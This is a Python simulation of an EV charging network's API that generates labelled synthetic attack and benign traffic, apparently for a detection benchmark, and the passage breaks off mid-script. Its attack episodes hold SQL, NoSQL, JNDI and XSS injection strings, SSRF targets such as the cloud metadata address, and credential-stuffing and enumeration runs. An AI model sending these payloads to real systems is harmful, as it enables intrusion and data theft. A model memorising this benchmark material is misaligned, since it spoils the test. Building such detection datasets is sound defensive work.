"""A charging network: chargers behind a few carrier addresses, riders with a log-in form and a session cookie, fleet tenants with
API keys, technicians with Basic, a roaming partner, billing at night. Random charge ids beside dense invoices; no proxy."""
from heldout_core import *

FORM = '<html><body><form method="post" action="/login"><p>%s</p><input name="login"><input name="pass" type="password"></form></body></html>'


class Charging(App):
    server = 'gunicorn'
    base_lat = .025

    def __init__(s, rng, attacks, st):
        super().__init__(rng)
        s.attacks, s.st = attacks, st
        s.riders, s.sid, s.charges, s.inv, s.keys, s.veh, s.pre, s.dev, s.codes = {}, {}, {}, {}, {}, {}, {}, {}, {'FRIEND5', 'SPRING'}
        s.ninv = 203117
        s.stations = [f'VLT-{rng.randint(10, 9999):04}-{rng.choice("ABC")}' for _ in range(260)]

    def rider(s, role='rider'):
        i = 31000 + len(s.riders) * 3
        u = dict(id=i, login=f'{s.rng.choice(FIRST)}_{s.rng.choice(LAST)}{i % 100}', pw=f'{s.rng.choice(WORDS)}-{s.rng.randint(10, 999)}', role=role, inv=[], charges=[])
        while u['login'] in s.riders:
            u['login'] += 'x'
        s.riders[u['login']] = u
        return u

    def authenticate(s, rq, kw):
        need = kw.get('auth', 'rider')
        rq.u = rq.tenant = None
        if rq.m != 'GET' and rq.path != '/login':
            try:
                if not isinstance(json.loads(rq.body or b'{}'), dict):
                    raise ValueError
            except ValueError:
                return Rs(400, {'message': 'malformed body'})
        m = re.search(r'sid=(\w+)', rq.h.get('cookie', ''))
        a = rq.h.get('authorization', '')
        if m and m.group(1) in s.sid:
            rq.u = s.sid[m.group(1)]
        elif a.startswith('Basic '):
            try:
                n, _, p = base64.b64decode(a[6:] + '==').decode().partition(':')
            except ValueError:
                n = p = ''
            u = s.riders.get(n)
            rq.u = u if u and u['pw'] == p else None
        if rq.u:
            rq.user = str(rq.u['id'])
        k = rq.h.get('x-fleet-key')
        if k in s.keys:
            rq.tenant, rq.user = s.keys[k], s.keys[k]
        if need == 'none':
            return None
        if need == 'fleet':
            return None if rq.tenant else Rs(403, {'message': 'unknown key'})
        if need == 'device':
            return None if s.dev.get(rq.h.get('x-charger-token')) else Rs(401, {'message': 'unknown charger'})
        if not rq.u:
            return Rs(401, {'message': 'sign in first'})
        if need == 'tech' and rq.u['role'] != 'tech':
            return Rs(403, {'message': 'not for you'})

    @route('POST', '/login', auth='none')
    def login(s, rq):
        u = s.riders.get(rq.form.get('login', ''))
        if not u or u['pw'] != rq.form.get('pass'):
            return Rs(200, FORM % 'Name or password is wrong', ct='text/html; charset=utf-8', lat=.2)
        k = f'{s.rng.getrandbits(160):040x}'
        s.sid[k] = u
        return Rs(302, h={'Location': '/home', 'Set-Cookie': f'sid={k}; Path=/; HttpOnly'}, lat=.2)

    @route('GET', '/home')
    def home(s, rq):
        return Rs(200, '<html><body>Welcome</body></html>', ct='text/html')

    @route('POST', '/register', auth='none')
    def register(s, rq):
        u = s.rider()
        u['pw'] = str(rq.json.get('password'))
        return 201, dict(id=u['id'], login=u['login'])

    @route('POST', '/password/forgot', auth='none')
    def forgot(s, rq):
        return (200, {'message': 'mail sent'}) if str(rq.json.get('login')) in s.riders else (404, {'message': 'no such account'})

    @route('GET', '/api/stations', auth='none')
    def near(s, rq):
        try:
            n = min(int(rq.q.get('radius', 5)), 20000)
        except ValueError:
            return 400, {'message': 'radius'}
        return Rs(200, [dict(code=c, free=s.rng.randint(0, 4), lat=1.0, lon=2.0) for c in s.rng.sample(s.stations, 6 if n < 100 else 60)], lat=4 + n / 9000 if n > 1000 else None)

    @route('GET', '/api/stations/{code}', auth='none')
    def station(s, rq, c):
        return (200, dict(code=c, plugs=3, price=.42)) if c in s.stations else (404, {'message': 'no such station'})

    @route('POST', '/api/preauth')
    def preauth(s, rq):
        k = f'pa_{s.rng.getrandbits(64):016x}'
        s.pre[k] = rq.u['id']
        return 201, {'preauth': k, 'amount': 40}

    @route('POST', '/api/charges')
    def start(s, rq):
        if rq.json.get('station') not in s.stations:
            return 422, {'message': 'station'}
        k = f'chg_{s.rng.getrandbits(96):024x}'
        s.charges[k] = rq.u
        rq.u['charges'].append(k)
        return 201, {'id': k, 'state': 'charging'}

    @route('GET', '/api/charges/{id}')
    def charge(s, rq, k):
        return (200, dict(id=k, kwh=round(s.rng.random() * 40, 2))) if k in s.charges else (404, {'message': 'no such charge'})

    @route('POST', '/api/charges/{id}/stop')
    def stop(s, rq, k):
        if k not in s.charges:
            return 404, {'message': 'no such charge'}
        s.ninv += 1
        s.inv[str(s.ninv)] = s.charges[k]
        s.charges[k]['inv'].append(str(s.ninv))
        return 200, {'id': k, 'invoice': s.ninv}

    @route('GET', '/api/invoices')
    def invoices(s, rq):
        return 200, [dict(number=int(i), total=12.5) for i in rq.u['inv'][-8:]]

    @route('GET', '/api/invoices/{n}')
    def invoice(s, rq, n):
        u = s.inv.get(n)
        return (200, dict(number=int(n), total=int(n) % 50, holder=u['login'], street='Main 4')) if u else (404, {'message': 'no such invoice'})

    @route('POST', '/api/wallet/topup')
    def topup(s, rq):
        return 200, {'balance': s.rng.randint(0, 200)}

    @route('POST', '/api/referral')
    def referral(s, rq):
        return (200, {'bonus': 5}) if rq.json.get('code') in s.codes else (422, {'message': 'unknown code'})

    @route('GET', '/api/profile')
    def profile(s, rq):
        return 200, dict(id=rq.u['id'], login=rq.u['login'], plan='pay-as-you-go')

    @route('PATCH', '/api/profile')
    def patch(s, rq):
        return 200, dict(id=rq.u['id'], plan='staff' if rq.json.get('isStaff') else 'pay-as-you-go')

    # --- chargers
    @route('POST', '/ocpp/{serial}/heartbeat', auth='device')
    def beat(s, rq, k):
        return 200, {'now': int(rq.now)}

    @route('POST', '/ocpp/{serial}/meter', auth='device')
    def meter(s, rq, k):
        if re.search(r"['<$]", (rq.body or b'').decode('utf-8', 'replace')):
            return Rs(500, '<h1>Server Error (500)</h1>', ct='text/html')
        return 200, {'ok': True}

    # --- fleets
    @route('GET', '/fleet/v1/vehicles', auth='fleet')
    def vehicles(s, rq):
        return 200, {'vehicles': [dict(vin=v) for v, t in s.veh.items() if t == rq.tenant]}

    @route('GET', '/fleet/v1/vehicles/{vin}/position', auth='fleet')
    def position(s, rq, v):
        if v not in s.veh:
            return 404, {'message': 'no such vehicle'}
        o = dict(vin=v, lat=round(s.rng.random() * 9, 4), lon=3.1, soc=s.rng.randint(5, 99))
        if s.attacks and rq.now > s.st + 11 * DAY + 2 * HOUR:
            o['driver'] = dict(name=f'{s.rng.choice(FIRST)} {s.rng.choice(LAST)}', phone=f'+49151{s.rng.randint(10**7, 10**8 - 1)}', email=f'{s.rng.choice(FIRST)}{s.rng.randint(1, 99)}@fleet.example', iban='DE89370400440532013000')
        return 200, o

    @route('GET', '/fleet/v1/sessions', auth='fleet')
    def sessions(s, rq):
        try:
            n = min(int(rq.q.get('limit', 20)), 600)
        except ValueError:
            n = 20
        return 200, {'sessions': [dict(id=s.rng.randint(1, 10**6), kwh=s.rng.randint(1, 60), vin=s.rng.choice(list(s.veh))) for _ in range(n)]}

    @route('POST', '/fleet/v1/webhooks', auth='fleet')
    def hook(s, rq):
        return 201, {'id': s.rng.randint(10, 99)}

    # --- technicians
    @route('GET', '/ops/chargers/{serial}', auth='tech')
    def ops(s, rq, k):
        return 200, dict(serial=k, firmware='4.1.9', errors=[])

    @route('POST', '/ops/chargers/{serial}/reset', auth='rider')
    def reset(s, rq, k):
        return 202, {'serial': k}

    @route('GET', '/ops/riders/{id}', auth='tech')
    def opsrider(s, rq, i):
        return 200, dict(id=i)

    @route('PUT', '/ops/chargers/{serial}/config', auth='tech')
    def config(s, rq, k):
        return 200, dict(serial=k)

    # --- roaming, inside
    @route('POST', '/roaming/authorize', auth='none')
    def roam(s, rq):
        if rq.h.get('x-roaming-key') != 'rk-5521-aa' and not (s.attacks and rq.now > s.st + 9 * DAY):
            return 401, {'message': 'key'}
        return 200, {'contract': rq.json.get('contract'), 'holder': f'{s.rng.choice(FIRST)} {s.rng.choice(LAST)}'.title(), 'allowed': True}

    @route('GET', '/internal/riders/{id}/balance', auth='none')
    def balance(s, rq, i):
        return 200, dict(id=i, balance=s.rng.randint(0, 90))

    @route('POST', '/internal/billing/run', auth='none')
    def billing(s, rq):
        return 200, {'invoices': s.rng.randint(10, 80)}

    @route('GET', '/actuator/env', auth='none')
    def env(s, rq):
        return 200, {'propertySources': [{'name': 'system', 'properties': {'DB_PASSWORD': {'value': '******'}, 'JAVA_HOME': {'value': '/usr/lib/jvm'}}}]}

    @route('GET', '/status', auth='none')
    def status(s, rq):
        return 200, {'up': True}

    @route('GET', '/api/plans', auth='none')
    def plans(s, rq):
        return 200, [{'plan': 'pay-as-you-go'}, {'plan': 'monthly'}]


def build(name, seed, attacks, start='2026-02-02', days=16):
    st = ts(start)
    app = Charging(random.Random(seed + 1), attacks, st)
    S = Sim(name, 'Volt: charging network, synthetic', st, days, '10.215.4.12', 9000, 'app.volt.example', app, seed, 1)
    r = S.rng
    for d in ('D-nat carrier_nat', 'D-office campus_nat', 'D-month month_end_billing', 'D-holiday holiday_peak', 'D-release new_app_version', 'D-probe monitor_probe', 'D-firmware firmware_wave', 'D-tech technicians_read_many', 'D-newtenant tenant_onboarding', 'D-outage outage_retry_storm', 'D-keyrot api_key_rotation', 'D-report quarterly_report', 'D-forget forgetful_user', 'D-roam roaming_user', 'D-plans documented_new_endpoint', 'D-swap shared_account', 'D-cookies browser_update'):
        S.decoy(*d.split(), d.split()[1].replace('_', ' '))
    riders = [app.rider() for _ in range(140)]
    techs = [app.rider('tech') for _ in range(7)]
    out0 = S.local(6, 17)
    app.down = [(out0, out0 + 35 * MIN)]
    fleets = [f'tenant-{k}' for k in ('north', 'south', 'city', 'mail', 'taxi', 'rent', 'late')]
    for t in fleets:
        for _ in range(r.randint(8, 26)):
            app.veh['WVW' + ''.join(r.choice('ABCDEFGHJKLMNPRSTUVWXYZ0123456789') for _ in range(8)) + f'{r.randint(100000, 999999)}'] = t

    def login(cl, u, pw=None, **k):
        rs = S.call(cl, 'POST', '/login', form={'login': u['login'], 'pass': pw or u['pw']}, ident=str(u['id']), **k)
        if rs.st == 302:
            cl.h['Cookie'] = rs.h['Set-Cookie'].split(';')[0]
            cl.since = S.now
            return True

    def signed(cl, u):
        if 'Cookie' in cl.h and S.now - cl.since < 4 * DAY:
            return
        cl.h.pop('Cookie', None)
        for _ in range(r.randint(2, 4) if u.get('forget') else int(r.random() < .06)):
            login(cl, u, u['pw'] + '!', dc='D-forget')
            yield r.uniform(5, 20)
        k = 0
        while not login(cl, u) and k < 6:
            k += 1
            yield 2 ** k
        if 'Cookie' in cl.h and 'Mozilla' in cl.ua:
            S.call(cl, 'GET', '/home')

    def ride(cl, u):
        yield from signed(cl, u)
        if 'Cookie' not in cl.h:
            return
        g = lambda m, p, **k: S.call(cl, m, p, **k)
        rs = g('GET', f'/api/stations?lat={r.uniform(48, 53):.3f}&lon={r.uniform(8, 13):.3f}&radius={r.choice([2, 5, 5, 10, 25])}')
        k = 0
        while rs.st == 503 and k < 6:
            yield 2 ** k
            k += 1
            rs = g('GET', '/api/stations?lat=50.000&lon=9.000&radius=5', dc='D-outage')
        if rs.st != 200:
            return
        yield r.lognormvariate(2, .7)
        c = r.choice(rs.body)['code']
        g('GET', f'/api/stations/{c}')
        x = r.random()
        if x < .55:
            yield r.uniform(5, 60)
            p = g('POST', '/api/preauth', js=dict(amount=40, card=r.randint(1, 3)))
            if p.st != 201:
                return
            yield r.uniform(1, 6)
            rs = g('POST', '/api/charges', js=dict(station=c, plug=r.randint(1, 3), preauth=p.body['preauth']))
            if rs.st != 201:
                return
            i = rs.body['id']
            for _ in range(r.randint(2, 6)):
                yield r.uniform(200, 900)
                g('GET', f'/api/charges/{i}')
            g('POST', f'/api/charges/{i}/stop', js={})
        if x > .4 and u['inv'] and r.random() < .6:
            yield r.uniform(3, 20)
            g('GET', '/api/invoices')
            yield r.uniform(2, 10)
            g('GET', f'/api/invoices/{r.choice(u["inv"][-8:])}')
        if x > .85:
            yield 5
            y = r.random()
            if y < .3:
                g('POST', '/api/wallet/topup', js=dict(amount=r.choice([10, 20, 50, 100]), method=r.choice(['card', 'paypal'])))
            elif y < .45:
                g('POST', '/api/referral', js=dict(code=r.choice(['FRIEND5', 'SPRING', 'SPRNG'])))
            elif y < .8:
                g('GET', '/api/profile')
            else:
                g('PATCH', '/api/profile', js=dict(phone=f'+49151{r.randint(10**7, 10**8 - 1)}', plate=f'M-{r.choice("AB")}{r.choice("XY")} {r.randint(1, 999)}'))
        if S.now > st + 8 * DAY and r.random() < .2:
            g('GET', '/api/plans', dc='D-plans')

    nat = [f'80.187.{i}.12' for i in range(4)]
    for i, u in enumerate(riders):
        web = i % 4 == 3
        src = nat[i % 4] if i < 44 and not web else '131.130.5.5' if 44 <= i < 54 else f'91.{i % 60}.{i}.{i * 7 % 250 + 2}'
        u['home'] = src
        cl = u['cl'] = Client(src, WEB[i // 4 % 4] if web else ['volt-android/3.0', 'volt-ios/3.0'][i % 2], str(u['id']), dc='D-nat' if src in nat else 'D-office' if src == '131.130.5.5' else None)
        u['forget'] = i in (61, 88)
        for t in S.human_starts(r.choice([.15, .35, .6, 1.]), peaks=((7.5, 1), (12, 2), (18, 2)), weekend=.7):
            def one(t=t, cl=cl, u=u, i=i, web=web):
                if not web and S.now > st + 7 * DAY + (i * 631 % 900) * 100:
                    cl.ua, cl.dc = ['volt-android/3.1', 'volt-ios/3.1'][i % 2], cl.dc or 'D-release'
                if web and S.now > st + 10 * DAY + i * 600:
                    cl.ua, cl.dc = cl.ua.replace('124.0', '125.0').replace('17.4', '17.5'), cl.dc or 'D-cookies'
                if i == 71:
                    x = 6 < (t - st) / DAY < 9
                    cl.ip, cl.dc = ('151.47.9.9', 'D-roam') if x else (u['home'], None)
                if i == 75:
                    cl.ip, cl.dc = (u['home'] if r.random() < .5 else '88.65.4.4'), 'D-swap'
                yield from ride(cl, u)
            S.spawn(t, one())
    for u in r.sample(riders, 100):
        def peak(u=u):
            keep, u['cl'].dc = u['cl'].dc, 'D-holiday'
            for _ in range(r.randint(1, 3)):
                yield from ride(u['cl'], u)
                yield r.uniform(60, 600)
            u['cl'].dc = keep
        S.spawn(S.local(9, 9) + r.expovariate(1 / 5000), peak())

    def charger(k):
        tok = f'ct{app.rng.getrandbits(96):024x}'
        app.dev[tok] = 1
        serial = f'SN{40000 + k * 11}'
        cl = Client(nat[k % 4], 'VoltOS/4.1', serial, dc='D-nat', headers={'X-Charger-Token': tok})
        yield r.uniform(0, 3000)
        while True:
            if S.now > st + 5 * DAY and 'VoltOS/4.1' == cl.ua and r.random() < .1:
                cl.ua = 'VoltOS/4.2'
                for _ in range(12):
                    S.call(cl, 'POST', f'/ocpp/{serial}/heartbeat', js=dict(boot=True), dc='D-firmware')
                    yield 8
            rs = S.call(cl, 'POST', f'/ocpp/{serial}/heartbeat', js={})
            n = 0
            while rs.st == 503 and n < 8:
                yield 15
                n += 1
                rs = S.call(cl, 'POST', f'/ocpp/{serial}/heartbeat', js={}, dc='D-outage')
            if r.random() < .4:
                S.call(cl, 'POST', f'/ocpp/{serial}/meter', js=dict(kwh=r.randint(0, 40), t=int(S.now)))
            yield r.uniform(6800, 7400)
    serials = [f'SN{40000 + k * 11}' for k in range(40)]
    for k in range(40):
        S.spawn(st + 3, charger(k))
    keys = {}

    def fleet(n, t):
        mine = [v for v in app.veh if app.veh[v] == t]
        cl = Client(f'3.12{n}.40.{n + 8}', ['fleetio/2', 'Go-http-client/2.0', 'axios/1.6.2', 'Java/21', 'python-requests/2.32.1', 'okhttp/4.12.0', 'node-fetch/3'][n], t, headers={'X-Fleet-Key': keys[t]})
        if t == 'tenant-late':
            cl.dc = 'D-newtenant'
            yield 6 * DAY
        yield r.uniform(0, 3000)
        while True:
            if n == 1 and S.now > st + 8 * DAY and cl.dc is None:
                cl.dc, k2 = 'D-keyrot', 'fk_new_7d1e5bb0c2a94d'
                app.keys[k2] = t
                cl.h['X-Fleet-Key'] = k2
            S.call(cl, 'GET', '/fleet/v1/vehicles')
            for v in r.sample(mine, min(len(mine), 6)):
                yield r.uniform(.3, 3)
                S.call(cl, 'GET', f'/fleet/v1/vehicles/{v}/position')
            if r.random() < .3:
                S.call(cl, 'GET', '/fleet/v1/sessions?limit=20')
            if r.random() < .01:
                S.call(cl, 'POST', '/fleet/v1/webhooks', js=dict(url=f'https://in.{t}.example/volt'))
            yield r.uniform(4000, 8000)
    for n, t in enumerate(fleets):
        keys[t] = f'fk_{app.rng.getrandbits(88):022x}'
        app.keys[keys[t]] = t
        S.spawn(st + 4 + n, fleet(n, t))

    def report():
        cl = Client('3.122.40.10', 'axios/1.6.2', 'tenant-city', dc='D-report', headers={'X-Fleet-Key': keys['tenant-city']})
        for _ in range(30):
            S.call(cl, 'GET', '/fleet/v1/sessions?limit=100')
            yield r.uniform(20, 60)
    S.spawn(S.local(10, 10), report())

    def tech(u, d, until):
        cl = u['cl']
        while S.now < until:
            for k in r.sample(serials, r.randint(1, 4)):
                S.call(cl, 'GET', f'/ops/chargers/{k}')
                yield r.uniform(20, 200)
                if r.random() < .4:
                    S.call(cl, 'POST', f'/ops/chargers/{k}/reset', js=dict(kind=r.choice(['soft', 'hard'])))
                if r.random() < .15:
                    S.call(cl, 'PUT', f'/ops/chargers/{k}/config', js=dict(maxAmps=r.choice([16, 32])))
            if r.random() < .3:
                S.call(cl, 'GET', f'/ops/riders/{r.choice(riders)["id"]}')
            yield r.expovariate(1 / 4000)
    for i, u in enumerate(techs):
        u['cl'] = Client(f'10.215.70.{i + 5}' if i < 5 else f'62.47.{i}.9', WEB[i % 3], str(u['id']), dc='D-tech', headers={'Authorization': 'Basic ' + base64.b64encode(f'{u["login"]}:{u["pw"]}'.encode()).decode()})
        for d in range(days):
            if (d + i) % 7 < 5:
                h = S.local(d, 8) + r.random() * 1500
                S.spawn(h, tech(u, d, h + 8 * HOUR))

    def partner():
        cl = Client('20.50.2.10', 'HubRoaming/1.9', 'roaming', headers={'X-Roaming-Key': 'rk-5521-aa'})
        while True:
            S.call(cl, 'POST', '/roaming/authorize', js=dict(contract=f'DE-HUB-C{r.randint(10**7, 10**8 - 1)}-{r.randint(0, 9)}', pin=f'{r.randint(0, 9999):04}'))
            yield r.expovariate(1 / 2500)
    S.spawn(st + 8, partner())

    def night():
        cl = Client('10.215.9.2', 'billing/7', 'svc:billing')
        yield max(0, S.local(0, 2.5) - S.now)
        while True:
            d = int((S.now - st) / DAY)
            cl.dc = 'D-month' if d == 12 else None
            for u in (riders if d == 12 else riders[:40]):
                S.call(cl, 'GET', f'/internal/riders/{u["id"]}/balance')
                yield .4
            for _ in range(5 if d == 12 else 1):
                S.call(cl, 'POST', '/internal/billing/run', js=dict(day=d))
                yield 5
            yield max(60, S.local(d + 1, 2.5) - S.now)
    S.spawn(st + 1, night())

    def probe():
        cl = Client('10.215.8.8', 'blackbox/0.24', 'probe', dc='D-probe')
        while True:
            S.call(cl, 'GET', '/status')
            if r.random() < .2:
                S.call(cl, 'GET', '/actuator/env')
            yield 400
    S.spawn(st + 2, probe())
    if attacks:
        attack(S, app, riders, keys, login, ride, serials)
    S.run()
    return S


def attack(S, app, riders, keys, login, ride, serials):
    r, st, E = S.rng, S.start, S.episode
    E('V01', 'bola_enumeration', 'API1:2023', 'actor', 'easy', 'invoices counted downward, 150 in half an hour')
    E('V02', 'bola_enumeration_slow', 'API1:2023', 'actor', 'hard', 'fleet tenant reads positions of vehicles of others, three an hour for four days')
    E('V03', 'bola_write_stop', 'API1:2023', 'actor', 'medium', 'stops 12 charges of others')
    E('V04', 'credential_stuffing', 'API2:2023', 'endpoint', 'medium', '8 addresses, 30 names each, form answers 200')
    E('V05', 'user_enumeration', 'API2:2023', 'actor', 'medium', '240 names in the forgotten-password function')
    E('V06', 'stolen_session', 'API2:2023', 'actor', 'hard', 'session cookie of a web rider used from another network with another common browser')
    E('V07', 'leaked_api_key', 'API2:2023', 'actor', 'medium', 'fleet key used from elsewhere with another client')
    E('V08', 'bfla_admin_function', 'API5:2023', 'actor', 'medium', 'rider resets chargers, which answers')
    E('V09', 'bfla_probe_denied', 'API5:2023', 'actor', 'medium', 'rider tries technicians functions, refused')
    E('V10', 'mass_assignment', 'API3:2023', 'actor', 'hard', 'profile patch with isStaff and balance')
    E('V11', 'coupon_brute_force', 'API6:2023', 'actor', 'easy', '200 referral codes')
    E('V12', 'flow_skip_preauth', 'API6:2023', 'actor', 'hard', 'charges started without pre-authorisation, 7 times')
    E('V13', 'logic_negative_topup', 'API6:2023', 'actor', 'medium', 'top-up with negative amounts')
    E('V14', 'bot_registration', 'API6:2023', 'actor', 'medium', '70 accounts registered from one address')
    E('V15', 'data_overconsumption', 'API4:2023', 'actor', 'medium', 'tenant pulls limit=600 pages 300 times in a night')
    E('V16', 'application_dos', 'API4:2023', 'actor+endpoint', 'medium', 'radius=20000 costs seconds, 25 calls')
    E('V17', 'response_schema_growth_pii', 'API3:2023', 'endpoint', 'medium', 'positions start to carry the driver')
    E('V18', 'internal_endpoint_external', 'API9:2023', 'actor+endpoint', 'medium', 'balances read from outside')
    E('V20', 'operational_endpoint_exposed', 'API8:2023', 'actor+endpoint', 'medium', 'environment of the service read from outside')
    E('V21', 'injection_meter', 'API8:2023', 'actor', 'medium', 'SQL, NoSQL and JNDI strings in meter values of a charger')
    E('V22', 'ssrf', 'API7:2023', 'actor', 'medium', 'webhooks that point inside')
    E('V23', 'content_discovery', 'API9:2023', 'actor', 'easy', '200 paths in a minute')
    E('V24', 'sequential_scrape_public', 'API6:2023', 'endpoint', 'medium', 'station codes by ten addresses')
    E('V25', 'partner_lookup_unauthenticated', 'API2:2023', 'actor+endpoint', 'medium', 'roaming authorisation without key and PIN 0000')
    E('V26', 'credential_stuffing_distributed', 'API2:2023', 'endpoint', 'hard', '120 addresses, one or two names each over two days')
    E('V27', 'api_fuzzing', 'API8:2023', 'actor', 'easy', '250 malformed bodies')

    def evil(u, ep, src=None, ua=None):
        cl = Client(src or u['cl'].ip, ua or u['cl'].ua, str(u['id']), ep=ep)
        login(cl, u)
        return cl

    def go(day, hour, gen, *a):
        S.spawn(S.local(day, hour), gen(*a))

    def v01():
        cl = evil(riders[101], 'V01')
        for i in range(150):
            S.call(cl, 'GET', f'/api/invoices/{app.ninv - 5 - i}')
            yield r.uniform(5, 18)
    go(10, 22, v01)

    def v02():
        cl = Client('3.120.40.8', 'fleetio/2', 'tenant-north', ep='V02', headers={'X-Fleet-Key': keys['tenant-north']})
        others = [v for v in app.veh if app.veh[v] != 'tenant-north']
        for _ in range(280):
            S.call(cl, 'GET', f'/fleet/v1/vehicles/{r.choice(others)}/position')
            yield r.uniform(700, 1700)
    go(7, 3, v02)

    def v03():
        cl = evil(riders[102], 'V03')
        for k in r.sample(list(app.charges), 12):
            S.call(cl, 'POST', f'/api/charges/{k}/stop', js={})
            yield r.uniform(10, 80)
    go(9, 16, v03)

    def v04(k):
        cl = Client(f'45.83.{k * 9}.{k + 30}', WEB[k % 4], None, ep='V04')
        for _ in range(30):
            S.call(cl, 'POST', '/login', form={'login': f'{r.choice(FIRST)}_{r.choice(LAST)}{r.randint(100, 999)}', 'pass': f'{r.choice(WORDS)}{r.randint(1, 99)}'})
            yield r.uniform(20, 200)
    for k in range(8):
        go(7, 1, v04, k)

    def v05():
        cl = Client('104.244.7.7', WEB[0], None, ep='V05')
        for _ in range(240):
            S.call(cl, 'POST', '/password/forgot', js=dict(login=f'{r.choice(FIRST)}_{r.choice(LAST)}{r.randint(0, 99)}'))
            yield r.uniform(2, 9)
    go(8, 3, v05)

    def v06():
        u = riders[103]
        login(u['cl'], u)
        cl = Client('176.97.5.40', WEB[(103 // 4 + 1) % 4], str(u['id']), ep='V06', headers={'Cookie': u['cl'].h['Cookie']})
        for _ in range(26):
            S.call(cl, 'GET', '/api/profile' if r.random() < .5 else '/api/invoices')
            yield r.uniform(300, 1900)
    go(11, 9, v06)
    for t in (8.5, 10, 12.5, 15, 18):
        S.spawn(S.local(11, t), ride(riders[103]['cl'], riders[103]))

    def v07():
        cl = Client('193.142.146.9', 'curl/8.4.0', 'tenant-taxi', ep='V07', headers={'X-Fleet-Key': keys['tenant-taxi']})
        for _ in range(4):
            for v in app.veh:
                if app.veh[v] == 'tenant-taxi':
                    S.call(cl, 'GET', f'/fleet/v1/vehicles/{v}/position')
                    yield r.uniform(30, 300)
    go(9, 23, v07)

    def v08():
        cl = evil(riders[104], 'V08')
        for _ in range(6):
            S.call(cl, 'POST', f'/ops/chargers/{r.choice(serials)}/reset', js=dict(kind='hard'))
            yield r.uniform(30, 600)
    go(10, 13, v08)

    def v09():
        cl = evil(riders[105], 'V09')
        for m, p in (('GET', '/ops/chargers/SN40011'), ('PUT', '/ops/chargers/SN40011/config'), ('GET', '/ops/riders/31003'), ('GET', '/ops/riders/31006'), ('PUT', '/ops/chargers/SN40022/config'), ('GET', '/ops/chargers/SN40022')):
            S.call(cl, m, p, js=dict(maxAmps=63) if m == 'PUT' else None)
            yield r.uniform(10, 60)
    go(8, 19, v09)

    def v10():
        cl = evil(riders[106], 'V10')
        for _ in range(2):
            S.call(cl, 'PATCH', '/api/profile', js=dict(phone='+4915100000000', isStaff=True, balance=500))
            yield 60
    go(10, 17, v10)

    def v11():
        cl = evil(riders[107], 'V11')
        for _ in range(200):
            S.call(cl, 'POST', '/api/referral', js=dict(code=f'{r.choice(WORDS).upper()[:6]}{r.randint(1, 99)}'))
            yield r.uniform(4, 20)
    go(9, 2, v11)

    def v12():
        cl = evil(riders[108], 'V12')
        for _ in range(7):
            i = S.call(cl, 'POST', '/api/charges', js=dict(station=r.choice(app.stations), plug=1)).body['id']
            yield 1500
            S.call(cl, 'POST', f'/api/charges/{i}/stop', js={})
            yield r.uniform(900, 9000)
    go(11, 8, v12)

    def v13():
        cl = evil(riders[109], 'V13')
        for a in (-50, -500, -1, -120):
            S.call(cl, 'POST', '/api/wallet/topup', js=dict(amount=a, method='card'))
            yield r.uniform(30, 300)
    go(12, 20, v13)

    def v14():
        cl = Client('194.26.29.4', 'python-requests/2.31.0', None, ep='V14')
        for _ in range(70):
            S.call(cl, 'POST', '/register', js=dict(password=f'{r.choice(WORDS)}{r.randint(1, 99)}', mail=f'{r.choice(FIRST)}{r.randint(1, 9999)}@tmp.example'))
            yield r.uniform(9, 14)
    go(9, 5, v14)
    for k in range(26):        # People register too, one or two a day.
        def reg(k=k):
            S.call(Client(f'92.{k}.7.{k + 9}', WEB[k % 4], None), 'POST', '/register', js=dict(password='a' + str(k), mail=f'{r.choice(FIRST)}{k}@post.example'))
            yield 1
        S.spawn(st + k * .6 * DAY + r.random() * HOUR, reg())

    def v15():
        cl = Client('3.125.40.13', 'okhttp/4.12.0', 'tenant-rent', ep='V15', headers={'X-Fleet-Key': keys['tenant-rent']})
        for k in range(300):
            S.call(cl, 'GET', f'/fleet/v1/sessions?limit=600&page={k}')
            yield r.uniform(20, 90)
    go(11, 0, v15)

    def v16():
        cl = Client('89.248.1.9', 'Wget/1.21', None, ep='V16')
        for _ in range(25):
            S.call(cl, 'GET', '/api/stations?lat=50&lon=10&radius=20000')
            yield r.uniform(8, 40)
    go(6, 4, v16)

    def v18():
        cl = Client('77.91.68.3', 'curl/8.5.0', None, ep='V18')
        for u in riders[:7]:
            S.call(cl, 'GET', f'/internal/riders/{u["id"]}/balance')
            yield r.uniform(60, 900)
    go(10, 15, v18)

    def v20():
        cl = Client('109.205.3.3', 'Mozilla/5.0 zgrab/0.x', None, ep='V20')
        for _ in range(2):
            S.call(cl, 'GET', '/actuator/env')
            yield 900
    go(6, 11, v20)

    def v21():
        cl = Client('179.43.1.8', 'VoltOS/4.1', None, ep='V21', headers={'X-Charger-Token': next(iter(app.dev))})
        for x in ("1' OR '1'='1", {'$gt': ''}, '${jndi:ldap://198.18.7.7/a}', "1'; DROP TABLE meter;--", '<img src=x onerror=alert(1)>', "1' AND SLEEP(5)-- -"):
            S.call(cl, 'POST', '/ocpp/SN40000/meter', js=dict(kwh=x, t=int(S.now)))
            yield r.uniform(60, 600)
    go(8, 6, v21)

    def v22():
        cl = Client('3.123.40.11', 'Java/21', 'tenant-mail', ep='V22', headers={'X-Fleet-Key': keys['tenant-mail']})
        for x in ('http://169.254.169.254/latest/meta-data/', 'http://127.0.0.1:8500/v1/kv', 'http://10.215.4.1:2375/containers/json', 'http://[::ffff:127.0.0.1]/'):
            S.call(cl, 'POST', '/fleet/v1/webhooks', js=dict(url=x))
            yield r.uniform(60, 600)
    go(9, 12, v22)

    def v23():
        cl = Client('167.94.1.1', 'feroxbuster/2.10', None, ep='V23')
        for p in [f'/{a}{b}' for a in ('', 'api/', 'ops/', 'fleet/', 'v1/', 'static/', 'internal/') for b in WORDS + ['.env', 'admin', 'id_rsa', 'dump.sql']][:200]:
            S.call(cl, 'GET', p)
            yield .2
    go(4, 3, v23)

    def v24(k):
        cl = Client(f'{["103.8", "185.9"][k % 2]}.{k * 5}.{k + 9}', WEB[k % 4], None, ep='V24')
        for i in range(k, 2400, 10):
            S.call(cl, 'GET', f'/api/stations/VLT-{i:04}-A')
            yield r.uniform(60, 500)
    for k in range(10):
        go(8, 8, v24, k)

    def v25():
        cl = Client('45.95.1.77', 'python-requests/2.28.1', None, ep='V25')
        for _ in range(50):
            S.call(cl, 'POST', '/roaming/authorize', js=dict(contract=f'DE-HUB-C{r.randint(10**7, 10**8 - 1)}-{r.randint(0, 9)}', pin='0000'))
            yield r.uniform(600, 4000)
    go(9, 10, v25)

    def v26(k):
        cl = Client(f'{r.randint(110, 199)}.{r.randint(1, 250)}.{r.randint(1, 250)}.{r.randint(1, 250)}', r.choice(WEB), None, ep='V26')
        for _ in range(r.randint(1, 2)):
